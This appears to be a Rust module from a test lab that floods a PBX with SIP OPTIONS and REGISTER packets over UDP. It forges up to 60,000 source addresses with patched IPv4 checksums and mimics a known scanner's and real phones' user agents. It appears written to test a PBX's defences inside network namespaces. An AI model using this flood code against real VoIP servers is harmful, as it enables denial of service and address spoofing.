//! Floods of SIP over UDP: as many packets as one core can send, for a bounded time.

mod trickle;
mod victims;

use std::net::Ipv4Addr;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};

use crate::cores;
use crate::lab::{ATTACKER, Lab, PBX};
use crate::link::PacketSocket;
use crate::packet::Packet;
use crate::process::Process;

pub use self::trickle::{SCANNER, Trickle};
pub use self::victims::{Outcome, endure, log_in};

/// Forged addresses of a flood from many sources, from 198.18.0.0 on.
pub const SOURCES: u32 = 60_000;
/// RFC 2544 benchmarking addresses: nobody's.
const FIRST_SOURCE: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
/// Where answers to forged addresses end.
const SOURCES_PREFIX: &str = "198.18.0.0/15";

const PATIENCE: Duration = Duration::from_secs(20);
/// Frames handed to the kernel at a time.
const BATCH: usize = 64;
/// Digits that differ in every packet; their number stands in for each.
const SERIAL: &str = "000000000000";
const SERIAL_DIGITS: usize = SERIAL.len();
const IPV4_SOURCE: usize = 14 + 12;
const IPV4_CHECKSUM: usize = 14 + 10;

/// Names of genuine telephones.
const GENUINE: [&str; 6] = [
    "Yealink SIP-T46S 66.86.0.15",
    "Grandstream GXP2170 1.0.11.79",
    "snomD785/10.1.64.14",
    "Cisco/SPA504G-7.6.2",
    "PolycomVVX-VVX_411-UA/5.9.5.0614",
    "AVM FRITZ!Box 7590 154.07.29",
];

/// As many packets a second as a core can send.
pub const FASTEST: u64 = u64::MAX;

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// OPTIONS from one address.
    OneSource,
    /// OPTIONS from [`SOURCES`] forged addresses.
    ForgedSources,
    /// A scanner's OPTIONS from as many.
    Scanner,
    /// REGISTERs with the names of genuine telephones from as many.
    Registers,
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 4] = [
        Self::OneSource,
        Self::ForgedSources,
        Self::Scanner,
        Self::Registers,
    ];

    /// As a table calls it.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::OneSource => "one source",
            Self::ForgedSources => "60,000 forged sources",
            Self::Scanner => "a scanner's name, 60,000 sources",
            Self::Registers => "genuine REGISTERs, 60,000 sources",
        }
    }

    /// Sends from one core, at most so many packets a second, onto the PBX's link as if the router
    /// had forwarded them, for so long; every packet has a Call-ID, a branch and a From tag of its
    /// own. How many packets left.
    ///
    /// # Errors
    /// If the link is gone.
    pub fn send(self, lab: &Lab, time: Duration, per_second: u64) -> Result<u64> {
        let socket = PacketSocket::open(&lab.router, "pbx")?;
        // The others are left to the PBX and its guard.
        cores::pin_to_last()?;
        let templates = self.templates(lab)?;
        let mut frames: Vec<Vec<u8>> = templates
            .iter()
            .cycle()
            .take(BATCH)
            .map(|template| template.frame.clone())
            .collect();
        let (mut serial, mut sent) = (0, 0);
        let begin = Instant::now();
        while begin.elapsed() < time {
            if sent as f64 > begin.elapsed().as_secs_f64() * per_second as f64 {
                std::hint::spin_loop();
                continue;
            }
            for (frame, template) in frames.iter_mut().zip(templates.iter().cycle()) {
                if self != Self::OneSource {
                    let number = u32::try_from(serial % u64::from(SOURCES))?;
                    set_source(frame, Ipv4Addr::from(u32::from(FIRST_SOURCE) + number));
                }
                template.set_serial(frame, serial);
                serial += 1;
            }
            sent += socket.send_all(&frames)?;
        }
        Ok(sent)
    }

    /// Makes the lab's router swallow what the PBX answers to the forged addresses, and the PBX
    /// take in its packets on the other cores, as with a network card of its own: on the sender's
    /// core whatever filters them would slow the flood down.
    ///
    /// # Errors
    /// What `ip` says.
    pub fn prepare(lab: &Lab) -> Result<()> {
        lab.router
            .run(&format!("ip route add blackhole {SOURCES_PREFIX}"))?;
        let others = cores::mask_of_others()?;
        // Only a mount of sysfs made within the namespace shows its interfaces.
        let script = format!("echo {others} > /sys/class/net/eth0/queues/rx-0/rps_cpus");
        let mut command = Command::new("ip");
        command.args(["netns", "exec", lab.pbx.name(), "sh", "-c", &script]);
        let finished = Process::run(&mut command, PATIENCE)?;
        ensure!(finished.status.success(), "{}", finished.stderr);
        Ok(())
    }

    fn templates(self, lab: &Lab) -> Result<Vec<Template>> {
        let (method, agents): (_, &[&str]) = match self {
            Self::OneSource | Self::ForgedSources => ("OPTIONS", &GENUINE[..1]),
            Self::Scanner => ("OPTIONS", &["friendly-scanner"]),
            Self::Registers => ("REGISTER", &GENUINE),
        };
        let macs = [lab.router.mac("pbx")?, lab.pbx.mac("eth0")?];
        let source: Ipv4Addr = ATTACKER.parse()?;
        agents
            .iter()
            .map(|agent| Template::new(method, agent, source, macs))
            .collect()
    }
}

/// A frame and where its serial numbers stand.
struct Template {
    frame: Vec<u8>,
    serials: Vec<usize>,
}

impl Template {
    fn new(method: &str, agent: &str, source: Ipv4Addr, macs: [[u8; 6]; 2]) -> Result<Self> {
        let message = format!(
            "{method} sip:{PBX} SIP/2.0\r\n\
             Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{SERIAL};rport\r\n\
             Max-Forwards: 70\r\nFrom: <sip:110@{PBX}>;tag={SERIAL}\r\nTo: <sip:110@{PBX}>\r\n\
             Call-ID: {SERIAL}\r\nCSeq: 1 {method}\r\nContact: <sip:110@{source}:5060>\r\n\
             Expires: 3600\r\nUser-Agent: {agent}\r\nContent-Length: 0\r\n\r\n"
        );
        // Without a checksum (RFC 768) the bytes may change.
        let frame = Packet::udp(format!("{source}:5060"), format!("{PBX}:5060"))
            .macs(macs[0], macs[1])
            .without_udp_checksum()
            .payload(message.as_bytes())
            .build();
        let serials: Vec<usize> = frame
            .windows(SERIAL_DIGITS)
            .enumerate()
            .filter(|(_, window)| *window == SERIAL.as_bytes())
            .map(|(at, _)| at)
            .collect();
        ensure!(serials.len() == 3, "{} serial numbers", serials.len());
        Ok(Self { frame, serials })
    }

    fn set_serial(&self, frame: &mut [u8], mut serial: u64) {
        let mut digits = [b'0'; SERIAL_DIGITS];
        for digit in digits.iter_mut().rev() {
            *digit += (serial % 10) as u8;
            serial /= 10;
        }
        for at in &self.serials {
            frame[*at..][..SERIAL_DIGITS].copy_from_slice(&digits);
        }
    }
}

/// Writes an IPv4 source address, and mends the header's checksum (RFC 1624).
fn set_source(frame: &mut [u8], source: Ipv4Addr) {
    let word = |bytes: &[u8]| u32::from(u16::from_be_bytes([bytes[0], bytes[1]]));
    let mut sum = u32::from(!(word(&frame[IPV4_CHECKSUM..]) as u16));
    for (at, new) in source.octets().chunks(2).enumerate() {
        let old = !(word(&frame[IPV4_SOURCE + 2 * at..]) as u16);
        sum += u32::from(old) + word(new);
    }
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    frame[IPV4_SOURCE..][..4].copy_from_slice(&source.octets());
    frame[IPV4_CHECKSUM..][..2].copy_from_slice(&(!(sum as u16)).to_be_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_with_another_source_has_the_checksum_of_one_built_so() {
        let build = |source: Ipv4Addr| {
            Template::new("OPTIONS", "x", source, [[2; 6]; 2])
                .unwrap()
                .frame
        };
        // Written out as long as the other, so that the length is the same.
        for source in [[198, 18, 0, 199], [198, 19, 255, 4]].map(Ipv4Addr::from) {
            let mut frame = build(Ipv4Addr::new(203, 0, 113, 77));
            set_source(&mut frame, source);
            assert_eq!(frame[..34], build(source)[..34]);
        }
    }
}
